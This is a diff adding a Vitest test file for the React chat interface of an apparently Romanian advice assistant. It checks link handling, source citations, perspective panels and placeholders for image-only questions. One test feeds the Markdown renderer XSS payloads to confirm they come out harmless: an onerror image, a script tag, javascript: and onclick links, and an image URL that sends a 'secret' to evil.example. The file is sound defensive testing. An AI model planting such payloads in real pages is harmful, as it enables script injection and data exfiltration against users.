@@ -1,0 +1,62 @@
+import { renderToString } from 'react-dom/server'
+import { MemoryRouter } from 'react-router'
+import { expect, test } from 'vitest'
+import type { ReactNode } from 'react'
+import { SourcesContext } from './answer-link.tsx'
+import { Markdown } from './markdown.tsx'
+import { Perspectives } from './perspectives.tsx'
+import { QuestionBubble } from './question-bubble.tsx'
+import { Sources } from './sources.tsx'
+import type { ShownSource } from '#web/screens/chat/conversation/reply.ts'
+
+const law: ShownSource = { id: 1, title: 'Legea 205/2004', url: '/lege#art-5', kind: 'law', quote: 'Deținătorii au obligația...', checked_on: '2026-11-02' }
+
+function markup(children: ReactNode): string {
+  return renderToString(<MemoryRouter>{children}</MemoryRouter>).replaceAll(/ class="[^"]*"/g, '')
+}
+
+test.each([
+  ['<img src=x onerror=alert(1)>', /<img|onerror/],
+  ['<script>alert(1)</script>', /<script/],
+  ['![pisică](https://evil.example/?q=secret)', /evil\.example|<img/],
+  ['[apasă](javascript:alert(1))', /javascript|<a/],
+  ['[apasă](//evil.example)', /evil\.example|<a/],
+  ['<a href="https://evil.example" onclick="x()">apasă</a>', /onclick|<a/],
+])('D-039 the answer %s reaches the page harmless', (text, forbidden) => {
+  expect(markup(<Markdown text={`Salut ${text}`} isWhole />)).not.toMatch(forbidden)
+})
+
+test('an outside link opens in a new tab and tells the other site nothing; one of ours stays here', () => {
+  const page = markup(<Markdown text="[legea](https://legislatie.just.ro/) și [ghidul](/lege), [sună](tel:112)" isWhole />)
+  expect(page).toContain('<a href="https://legislatie.just.ro/" target="_blank" rel="noopener noreferrer nofollow ugc">legea</a>')
+  expect(page).toContain('<a href="/lege" data-discover="true">ghidul</a>')
+  expect(page).toContain('<a href="tel:112">sună</a>')
+})
+
+test('a half-written answer shows no half-written signs', () => {
+  expect(markup(<Markdown text="Mută **câinele la [umb" isWhole={false} />)).toBe('<p>Mută <strong>câinele la umb</strong></p>')
+})
+
+test('S-458 a marker leads to its source, which says what it is, what it says and when it was checked', () => {
+  const sources = [law]
+  const page = markup(
+    <SourcesContext value={{ answerId: 'a1', sources }}>
+      <Markdown text="Ai obligația [1], nu [7]." isWhole />
+      <Sources answerId="a1" sources={sources} />
+    </SourcesContext>,
+  )
+  expect(page).toContain('<a href="#sursa-a1-1" aria-label="Sursa 1: Legea 205/2004"')
+  expect(page).not.toContain('#sursa-a1-7')
+  expect(page).toMatch(/<li id="sursa-a1-1".*href="\/lege#art-5".*Legea 205\/2004.*Deținătorii au obligația\.\.\..*Lege.*verificat la 2 noiembrie 2026/s)
+})
+
+test('S-459 each perspective opens under its label', () => {
+  const page = markup(<Perspectives answerId="a1" sources={[]} perspectives={[{ label: 'Medic veterinar', text: 'Sună la cabinet.', source_ids: [] }]} />)
+  expect(page).toMatch(/<details><summary>Medic veterinar<\/summary>.*Sună la cabinet\..*<\/details>/s)
+})
+
+test('S-386 a question that is only a picture shows [Imagine încărcată]', () => {
+  const asked = { role: 'user', id: 'q', image: 'data:image/jpeg;base64,AAAA' } as const
+  expect(markup(<QuestionBubble question={{ ...asked, text: 'Analizează această imagine și spune-mi ce vezi.' }} isLast />)).toContain('[Imagine încărcată]')
+  expect(markup(<QuestionBubble question={{ ...asked, text: 'Ce rasă e?' }} isLast />)).toContain('Ce rasă e?')
+})
